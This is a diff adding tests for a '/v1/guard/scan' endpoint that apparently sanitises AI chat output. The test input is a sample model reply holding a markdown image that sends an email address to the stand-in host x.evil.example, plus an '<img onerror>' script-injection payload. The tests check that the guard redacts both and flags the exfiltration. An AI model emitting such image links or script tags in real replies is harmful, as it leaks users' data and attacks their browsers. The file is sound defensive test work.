@@ -145,3 +145,31 @@ describe.each([false, true])('render transforms (stream: %s)', (stream) => {
     expect((await ask(chat, csv, stream)).content).toBe(csv);
   });
 });
+
+describe('POST /v1/guard/scan', () => {
+  it('returns the transformed text and the findings, never the removed content in evidence', async () => {
+    const text = `Done ![p](https://x.evil.example/p?e=${EMAIL}) <img src=x onerror=alert(1)>`;
+    const res = await fetch(`${chat.url}/v1/guard/scan`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ text, direction: 'output' }),
+    });
+    expect(res.status).toBe(200);
+    const body = (await res.json()) as { transformed: string; findings: Array<{ detector: string; type: string; action: string }> };
+    expect(body.transformed).toBe(`Done p (image: \`https://x.evil.example/p?e=${EMAIL}\`) &lt;img src=x onerror=alert(1)&gt;`);
+    expect(body.findings).toContainEqual(expect.objectContaining({ detector: 'render', type: 'markdown_image', action: 'redact' }));
+    expect(body.findings).toContainEqual(expect.objectContaining({ detector: 'render', type: 'html_tag', action: 'redact' }));
+    expect(body.findings).toContainEqual(expect.objectContaining({ detector: 'exfiltration', type: 'exfiltration_pii', action: 'monitor' }));
+  });
+
+  it('a clean text comes back without a transformed copy', async () => {
+    const res = await fetch(`${chat.url}/v1/guard/scan`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ text: CLEAN, direction: 'output' }),
+    });
+    const body = (await res.json()) as { transformed?: string; findings: unknown[] };
+    expect(body.transformed).toBeUndefined();
+    expect(body.findings).toEqual([]);
+  });
+});
